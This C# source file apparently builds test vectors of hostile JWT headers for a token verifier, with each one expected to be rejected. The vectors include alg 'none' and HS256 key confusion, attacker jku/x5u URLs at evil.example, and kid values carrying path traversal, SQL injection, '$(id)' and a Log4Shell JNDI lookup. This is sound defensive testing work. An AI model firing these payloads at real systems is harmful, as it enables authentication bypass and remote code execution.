using System.Security.Cryptography;
using System.Text;

namespace AiIdentity.Vectors;

/// <summary>What attackers write into headers.</summary>
internal static partial class Hostile
{
    private static IEnumerable<HostileToken> Algorithms()
    {
        string Alg(string json) => $$"""{"alg":{{json}},"typ":"JWT","kid":"{{Key.Id}}"}""";
        foreach (var none in new[] { "none", "None", "NONE", "nOnE" })
        {
            yield return new($"{none} without a signature", $"{Tokens.Encode(Alg($"\"{none}\""))}.{Payload}.", "unsupported_algorithm");
            yield return new($"{none} with the good signature", With(Alg($"\"{none}\"")), "unsupported_algorithm");
        }

        foreach (var (what, secret) in new (string, byte[])[]
        {
            ("the public key's bytes", Key.PublicKey), ("the public key's base64url", Encoding.ASCII.GetBytes(Key.X)),
            ("the JWK", Encoding.ASCII.GetBytes(Key.Jwk.ToJsonString())), ("nothing", []),
        })
        {
            var signed = $"{Tokens.Encode(Alg("\"HS256\""))}.{Payload}";
            yield return new($"HS256 keyed with {what}", $"{signed}.{Tokens.Encode(HMACSHA256.HashData(secret, Encoding.ASCII.GetBytes(signed)))}", "unsupported_algorithm");
        }

        foreach (var alg in new[] { "HS512", "RS256", "RS512", "PS256", "ES256", "ES256K", "ES512", "Ed448", "ML-DSA-44", "dir", "A256KW", "RSA-OAEP", "ECDH-ES" })
            yield return new(alg, With(Alg($"\"{alg}\"")), "unsupported_algorithm");
        foreach (var alg in new[] { "eddsa", "EDDSA", "ed25519", "EdDSA ", " EdDSA", "EdDSA\\u0000", "EdDSA\\n", "EdDSA256", "", "\\u0415dDSA", "\\uFF25dDSA", "EdDSA\\u200B" })
            yield return new($"nearly EdDSA: \"{alg}\"", With(Alg($"\"{alg}\"")), "unsupported_algorithm");
        foreach (var alg in new[] { "null", "1", "true", "[]", "{}", "[\"EdDSA\"]", "{\"name\":\"EdDSA\"}", "\"\\uD800\"" })
            yield return new($"no text: {alg}", With(Alg(alg)), "malformed");
        yield return new("none at all", With($$"""{"typ":"JWT","kid":"{{Key.Id}}"}"""), "malformed");
        yield return new("Ed25519 over the signature of another header", With(Alg("\"Ed25519\"")), "bad_signature");
    }

    private static IEnumerable<HostileToken> KeyNames()
    {
        string Kid(string json) => $$"""{"alg":"EdDSA","typ":"JWT","kid":{{json}}}""";
        foreach (var kid in new[]
        {
            "k_01ARZ3NDEKTSV4RRFFQ69G5FAV", "", "k_", "k_99999999999999999999999999", "../../etc/passwd", "/dev/null", "..\\\\..\\\\windows\\\\win.ini", "file:///etc/passwd",
            "k_%00", "k_\\u0000", "' OR 1=1 --", "k_01'; DROP TABLE SigningKeys; --", "$(id)", "https://evil.example/jwks.json", "${jndi:ldap://evil.example/a}",
            "\\u0444\\u0430\\u0439\\u043B", "\\uD83D\\uDCA5", "k_\\u202E0", "constructor", "__proto__", "toString",
        })
            yield return new($"kid \"{kid}\"", With(Kid($"\"{kid}\"")), "unknown_key");
        yield return new("kid in lower case", With(Kid($"\"{Key.Id.ToLowerInvariant()}\"")), "unknown_key");
        yield return new("kid with a space", With(Kid($"\"{Key.Id} \"")), "unknown_key");
        yield return new("kid with a null byte", With(Kid($"\"{Key.Id}\\u0000\"")), "unknown_key");
        yield return new("kid with a zero-width space", With(Kid($"\"{Key.Id}\\u200B\"")), "unknown_key");
        yield return new("kid with full-width digits", With(Kid($"\"{Key.Id.Replace("01", "\\uFF10\\uFF11", StringComparison.Ordinal)}\"")), "unknown_key");
        yield return new("kid without its prefix", With(Kid($"\"{Key.Id[2..]}\"")), "unknown_key");
        yield return new("no kid", With("""{"alg":"EdDSA","typ":"JWT"}"""), "unknown_key");
        foreach (var kid in new[] { "null", "1", "true", "[]", "{}", $"[\"{Key.Id}\"]", "\"\\uDC00\"" }) yield return new($"kid no text: {kid}", With(Kid(kid)), "malformed");
        yield return new("another key of the registry's", With(Tokens.Header(TestKeys.Retired)), "bad_signature");
        yield return new("signed by another key of the registry's", Tokens.Sign(TestKeys.Retired, Tokens.Header(Key), Claims), "bad_signature");
    }

    private static IEnumerable<HostileToken> EmbeddedKeys()
    {
        var stranger = TestKeys.Stranger;
        var jwk = stranger.Jwk.ToJsonString();
        foreach (var (name, members) in new[]
        {
            ("jwk", $"\"jwk\":{jwk}"), ("jku", "\"jku\":\"https://evil.example/jwks.json\""), ("jku under our own host", $"\"jku\":\"{World.Issuer}@evil.example/jwks.json\""),
            ("x5u", "\"x5u\":\"https://evil.example/chain.pem\""), ("x5c", "\"x5c\":[\"MIIB\"]"), ("x5t", "\"x5t\":\"AAAA\",\"x5t#S256\":\"AAAA\""), ("a set of keys", $"\"keys\":[{jwk}]"),
        })
            yield return new($"{name} of the attacker's", Tokens.Sign(stranger, WithMembers(members), Claims), "bad_signature");
        yield return new("jwk under the attacker's own kid", Tokens.Sign(stranger, $$"""{"alg":"EdDSA","typ":"JWT","kid":"{{stranger.Id}}","jwk":{{jwk}}}""", Claims), "unknown_key");
        yield return new("jwk in the place of a kid", Tokens.Sign(stranger, $$"""{"alg":"EdDSA","typ":"JWT","jwk":{{jwk}}}""", Claims), "unknown_key");
        yield return new("jwk as the kid", Tokens.Sign(stranger, $$"""{"alg":"EdDSA","typ":"JWT","kid":{{jwk}}}""", Claims), "malformed");
        var smallOrder = "\"jwk\":{\"kty\":\"OKP\",\"crv\":\"Ed25519\",\"x\":\"AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}";
        yield return new("jwk of small order, for which one signature fits all", $"{Tokens.Encode(WithMembers(smallOrder))}.{Payload}.{Tokens.Encode([1, .. new byte[63]])}", "bad_signature");
    }

    private static IEnumerable<HostileToken> Types()
    {
        foreach (var type in new[] { "\"jwt\"", "\"Jwt\"", "\"JWT \"", "\"application/jwt\"", "\"at+jwt\"", "\"dpop+jwt\"", "\"statuslist+jwt\"", "\"JOSE\"", "\"JWE\"", "\"\"", "\"JWT\\u0000\"", "null", "1", "[\"JWT\"]" })
            yield return new($"typ {type}", Tokens.Sign(Key, $$"""{"alg":"EdDSA","typ":{{type}},"kid":"{{Key.Id}}"}""", Claims), "malformed");
        yield return new("no typ", Tokens.Sign(Key, $$"""{"alg":"EdDSA","kid":"{{Key.Id}}"}""", Claims), "malformed");
        yield return new("a status list", StatusLists.At(World.Now), "malformed");
    }

    private static IEnumerable<HostileToken> Critical()
    {
        foreach (var members in new[] { "\"crit\":[\"exp\"]", "\"crit\":[\"x\"],\"x\":1", "\"crit\":[]", "\"crit\":null", "\"crit\":\"b64\"", "\"crit\":[\"alg\"]", "\"b64\":false,\"crit\":[\"b64\"]", "\"b64\":false", "\"b64\":true" })
            yield return new(members, Tokens.Sign(Key, WithMembers(members), Claims), "malformed");
        yield return new("b64 false over a payload as it is", $"{Tokens.Encode(WithMembers("\"b64\":false,\"crit\":[\"b64\"]"))}.{Claims.Replace(".", "", StringComparison.Ordinal)}.{Signature}", "malformed");
    }

    private static IEnumerable<HostileToken> Headers()
    {
        foreach (var json in new[] { "", "{", "}", "[]", "\"x\"", "1", "null", "true", "{}x", "{} {}", "{\"alg\":\"EdDSA\",}", "{'alg':'EdDSA'}", "{alg:\"EdDSA\"}", "/**/{}", "{\"alg\":\"EdDSA\"" })
            yield return new($"header {json}", With(json), "malformed");
        yield return new("cty, zip and enc over the signature of another header", With(WithMembers("\"cty\":\"JWT\",\"zip\":\"DEF\",\"enc\":\"A256GCM\"")), "bad_signature");
        yield return new("a member more over the signature of another header", With(WithMembers("\"a\":1")), "bad_signature");
        yield return new("the same header written with a space", With(Tokens.Header(Key).Replace(":", ": ", StringComparison.Ordinal)), "bad_signature");
        yield return new("65 levels deep", With(WithMembers($"\"a\":{new string('[', 64)}{new string(']', 64)}")), "malformed");
    }
}
